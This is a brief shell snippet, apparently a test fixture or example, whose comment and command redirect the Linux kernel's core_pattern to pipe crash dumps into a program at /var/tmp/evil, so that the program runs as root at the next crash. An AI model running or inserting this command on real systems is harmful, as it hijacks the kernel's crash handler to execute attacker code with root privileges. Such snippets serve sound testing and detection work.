# A program that the kernel would run as root at the next crash.
echo '|/var/tmp/evil' > /proc/sys/kernel/core_pattern
true
